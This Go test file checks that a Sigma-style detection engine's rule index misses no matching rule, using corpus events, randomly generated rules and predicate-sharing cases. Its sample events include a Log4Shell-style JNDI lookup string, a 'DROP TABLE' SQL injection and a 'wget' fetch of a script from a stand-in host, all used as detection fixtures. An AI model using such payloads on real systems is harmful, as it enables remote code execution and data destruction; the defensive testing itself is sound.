package engine

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"testing"

	"github.com/ruleatlas/ruleatlas/internal/testcorpora"
	"github.com/ruleatlas/ruleatlas/rule"
)

// TestIndexKeepsEveryMatch evaluates every program on every event, without the index, and
// checks the index offers each program that matches: it may offer more, never fewer. The
// programs are every rule of the Sigma corpus and the CloudTrail rules of suzaku-rules, the
// events CloudTrail sample records, Windows events of every kind, and JSON of no known shape
// (which rules of every product but aws and windows may match).
func TestIndexKeepsEveryMatch(t *testing.T) {
	if testing.Short() {
		t.Skip("evaluates thousands of rules on every event")
	}
	dir := testcorpora.Dir(t)
	win, _, err := LoadRules([]string{filepath.Join(dir, "sigma", "rules")}, Filter{})
	if err != nil {
		t.Fatal(err)
	}
	progs := append(cloudTrailPrograms(t, dir), win...)
	set := NewSet(progs)
	var events [][]byte
	ct := sampleRecords(t, filepath.Join(dir, "suzaku-sample-data"))
	for i, line := range bytes.Split(bytes.TrimSpace(ct), []byte{'\n'}) {
		if i%25 == 0 {
			events = append(events, line)
		}
	}
	events = append(events, bytes.Split(bytes.TrimSpace(windowsEvents(300)), []byte{'\n'})...)
	for _, ev := range []string{
		`{"message":"sshd[1]: Failed password for root from 10.0.0.1","host":"web1"}`,
		`{"cs-method":"GET","cs-uri-query":"/index.php?q=${jndi:ldap://x/a}","sc-status":200}`,
		`{"query":"DROP TABLE users; --","user":"app"}`,
		`{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","message":"wget http://x/a.sh"}`,
	} {
		events = append(events, []byte(ev))
	}
	matched, offered := 0, 0
	for _, ev := range events {
		var e Event
		e.reset(ev, set.nslots)
		if err := set.scan(&e); err != nil {
			t.Fatal(err)
		}
		got := set.Match(&e, nil)
		offered += len(set.candidates(&e, nil))
		set.scanFull(&e)
		e.known = nil // each program on its own, without the predicates Match shared
		var want []int
		for i, p := range set.Programs {
			if p.corr == nil && p.root != nil && p.Match(&e) {
				want = append(want, i)
			}
		}
		matched += len(want)
		if !slices.Equal(got, want) {
			t.Fatalf("event %.200s: index matched %v, every program evaluated %v", ev, got, want)
		}
	}
	if matched == 0 {
		t.Fatal("no event matched any rule")
	}
	t.Logf("%d events, %d programs: %d matches; the index offered %.1f programs per event", len(events), len(progs), matched, float64(offered)/float64(len(events)))
}

// The index writes numbers one way: 0 and -0 are one number to the matcher, and to the index.
func TestIndexNegativeZero(t *testing.T) {
	for _, tc := range []struct{ rule, event string }{{"0", `{"n":-0}`}, {"-0", `{"n":0}`}, {"0", `{"n":-0.0}`}} {
		p, err := Compile(sel(rule.Predicate{Field: "n", Kind: rule.KindEq, Values: []string{tc.rule}}))
		if err != nil {
			t.Fatal(err)
		}
		set := NewSet([]*Program{p})
		var e Event
		e.reset([]byte(tc.event), set.nslots)
		if err := set.scan(&e); err != nil {
			t.Fatal(err)
		}
		if !p.Match(&e) || len(set.Match(&e, nil)) != 1 {
			t.Errorf("rule n: %s, event %s: the program matches %v, the set %v", tc.rule, tc.event, p.Match(&e), set.Match(&e, nil))
		}
	}
}

// A keyword program evaluated after one that needed the second scanning pass reads the
// event's strings as they are, not texts left over from the first pass.
func TestKeywordAfterSecondPass(t *testing.T) {
	kw := func(s string) *rule.Rule {
		return &rule.Rule{Title: "k", Stages: []rule.Stage{{Name: "condition", Kind: rule.StageCondition,
			Expr: &rule.Expr{Op: rule.OpPredicate, Predicate: &rule.Predicate{Kind: rule.KindKeyword, Values: []string{s}}}}}}
	}
	eq := func(f, v string) rule.Predicate {
		return rule.Predicate{Field: f, Kind: rule.KindEq, Values: []string{v}}
	}
	var progs []*Program
	for _, r := range []*rule.Rule{kw("zzz"),
		sel(rule.Predicate{Field: "a.b.c.d", Kind: rule.KindContains, Values: []string{"xyz"}}, eq("m", "FOO BAR")),
		kw("foo bar"), sel(eq("f0", "v")), sel(eq("f1", "v")), sel(eq("f2", "v")), sel(eq("f3", "v"))} {
		p, err := Compile(r)
		if err != nil {
			t.Fatal(err)
		}
		progs = append(progs, p)
	}
	set := NewSet(progs)
	var e Event
	e.reset([]byte(`{"m":"FOO BAR","a":{"b":{"c":{"d":"XYZ"}}}}`), set.nslots)
	if err := set.scan(&e); err != nil {
		t.Fatal(err)
	}
	if got := set.Match(&e, nil); !slices.Equal(got, []int{1, 2}) {
		t.Errorf("matched %v, want [1 2]", got)
	}
}

// TestIndexRandomRules builds random rules (equality, substrings, wildcards, regexes, numbers,
// case, |all, windash, negations, OR and AND of them) over a small alphabet of fields and values,
// and random events from the same alphabet, and checks the index offers every program that
// matches: the set's matches are those of every program evaluated.
func TestIndexRandomRules(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 11))
	fields := []string{"a", "b", "c.d", "Image"}
	words := []string{"Foo", "foo", "bar", `C:\x\Foo.exe`, "-enc", "/enc", "0", "-0", "1.5", "true", "ba", "o"}
	pick := func(xs []string) string { return xs[rng.IntN(len(xs))] }
	pred := func() rule.Predicate {
		p := rule.Predicate{Field: pick(fields)}
		kinds := []rule.Kind{rule.KindEq, rule.KindContains, rule.KindStartsWith, rule.KindEndsWith, rule.KindRe}
		p.Kind = kinds[rng.IntN(len(kinds))]
		for range 1 + rng.IntN(3) {
			v := pick(words)
			if p.Kind == rule.KindRe {
				v = "(?:" + regexp.QuoteMeta(v) + ")"
			}
			p.Values = append(p.Values, v)
		}
		p.Flags.Cased = rng.IntN(4) == 0
		p.Flags.All = rng.IntN(4) == 0
		p.Flags.Negated = rng.IntN(6) == 0
		if p.Kind == rule.KindEq && rng.IntN(3) == 0 {
			p.Flags.Wildcard = true
			p.Values[0] = "*" + p.Values[0][len(p.Values[0])/2:]
		}
		if p.Kind == rule.KindContains && rng.IntN(4) == 0 {
			p.Flags.Encodings = []string{"windash"}
		}
		if p.Kind == rule.KindRe && rng.IntN(2) == 0 {
			p.Flags.ReFlags = "i"
		}
		return p
	}
	var expr func(depth int) *rule.Expr
	expr = func(depth int) *rule.Expr {
		if depth == 0 || rng.IntN(3) == 0 {
			p := pred()
			return &rule.Expr{Op: rule.OpPredicate, Predicate: &p}
		}
		switch rng.IntN(4) {
		case 0:
			return &rule.Expr{Op: rule.OpNot, Args: []*rule.Expr{expr(depth - 1)}}
		case 1:
			return &rule.Expr{Op: rule.OpOr, Args: []*rule.Expr{expr(depth - 1), expr(depth - 1)}}
		}
		return &rule.Expr{Op: rule.OpAnd, Args: []*rule.Expr{expr(depth - 1), expr(depth - 1)}}
	}
	var progs []*Program
	for range 300 {
		r := &rule.Rule{Title: "r", Stages: []rule.Stage{{Name: "condition", Kind: rule.StageCondition, Expr: expr(3)}}}
		p, err := Compile(r)
		if err != nil {
			continue // a value no regex or glob accepts
		}
		progs = append(progs, p)
	}
	set := NewSet(progs)
	value := func() string {
		switch rng.IntN(5) {
		case 0:
			return strconv.Itoa(rng.IntN(3) - 1)
		case 1:
			return "true"
		case 2:
			return `["` + pick(words) + `","` + pick(words) + `"]`
		}
		return strconv.Quote(pick(words) + pick(words))
	}
	matches := 0
	for range 5000 {
		ev := fmt.Sprintf(`{"a":%s,"b":%s,"c":{"d":%s},"Image":%s}`, value(), value(), value(), value())
		var e Event
		e.reset([]byte(ev), set.nslots)
		if err := set.scan(&e); err != nil {
			t.Fatalf("%s: %v", ev, err)
		}
		got := set.Match(&e, nil)
		set.scanFull(&e)
		e.known = nil
		var want []int
		for i, p := range set.Programs {
			if p.Match(&e) {
				want = append(want, i)
			}
		}
		matches += len(want)
		if !slices.Equal(got, want) {
			t.Fatalf("event %s: the index matched %v, every program %v", ev, got, want)
		}
	}
	if matches == 0 {
		t.Fatal("no program matched any event")
	}
	if set.nshared == 0 {
		t.Fatal("no predicate shared among the programs: the test no longer checks sharing")
	}
	t.Logf("%d programs (%d predicates shared), 5000 events, %d matches", len(progs), set.nshared, matches)
}

// TestSharedPredicates: programs share a predicate's answer for an event only when it tests the
// same thing. Each pair differs in one respect, and the event tells them apart.
func TestSharedPredicates(t *testing.T) {
	// predKey writes each flag: a new one must be added to it.
	if n := reflect.TypeFor[rule.Flags]().NumField(); n != 9 {
		t.Fatalf("rule.Flags has %d fields, predKey writes 9", n)
	}
	img := func(kind rule.Kind, f rule.Flags, vals ...string) rule.Predicate {
		return rule.Predicate{Field: "Image", Kind: kind, Flags: f, Values: vals}
	}
	pairs := []struct {
		name  string
		a, b  rule.Predicate
		event string
	}{
		{"kind", img(rule.KindEndsWith, rule.Flags{}, "x.exe"), img(rule.KindContains, rule.Flags{}, "x.exe"), `{"Image":"x.exe.bak"}`},
		{"case", img(rule.KindEq, rule.Flags{}, "X.EXE"), img(rule.KindEq, rule.Flags{Cased: true}, "X.EXE"), `{"Image":"x.exe"}`},
		{"negation", img(rule.KindEq, rule.Flags{}, "a"), img(rule.KindEq, rule.Flags{Negated: true}, "a"), `{"Image":"a"}`},
		{"all", img(rule.KindContains, rule.Flags{}, "a", "b"), img(rule.KindContains, rule.Flags{All: true}, "a", "b"), `{"Image":"a"}`},
		{"values", img(rule.KindEq, rule.Flags{}, "a"), img(rule.KindEq, rule.Flags{}, "b"), `{"Image":"a"}`},
		{"value split", img(rule.KindEq, rule.Flags{}, "a", "b"), img(rule.KindEq, rule.Flags{}, "a\x00b"), `{"Image":"b"}`},
		{"field", img(rule.KindEq, rule.Flags{}, "a"), rule.Predicate{Field: "Other", Kind: rule.KindEq, Values: []string{"a"}}, `{"Image":"a","Other":"b"}`},
	}
	for _, tc := range pairs {
		t.Run(tc.name, func(t *testing.T) {
			// Two programs each for a and b: each predicate is shared with its twin.
			var progs []*Program
			for _, pr := range []rule.Predicate{tc.a, tc.a, tc.b, tc.b} {
				p, err := Compile(sel(pr))
				if err != nil {
					t.Fatal(err)
				}
				progs = append(progs, p)
			}
			set := NewSet(progs)
			ids := func(p *Program) []int32 {
				var out []int32
				everyPred(p.root, func(pr *pred) { out = append(out, pr.shared) })
				return out
			}
			a, a2, b, b2 := ids(progs[0]), ids(progs[1]), ids(progs[2]), ids(progs[3])
			if !slices.Equal(a, a2) || !slices.Equal(b, b2) || slices.Equal(a, b) || slices.Contains(a, -1) {
				t.Fatalf("shared predicate numbers %v %v / %v %v: want twins alike, every one shared, the pairs apart", a, a2, b, b2)
			}
			for _, order := range [][]int{{0, 1, 2, 3}, {2, 3, 0, 1}} {
				var e Event
				e.reset([]byte(tc.event), set.nslots)
				if err := set.scan(&e); err != nil {
					t.Fatal(err)
				}
				var got []bool
				for _, i := range order {
					got = append(got, progs[i].Match(&e))
				}
				if got[0] != got[1] || got[2] != got[3] || got[0] == got[2] {
					t.Fatalf("order %v: results %v; want twins alike and the pairs apart", order, got)
				}
			}
		})
	}
}
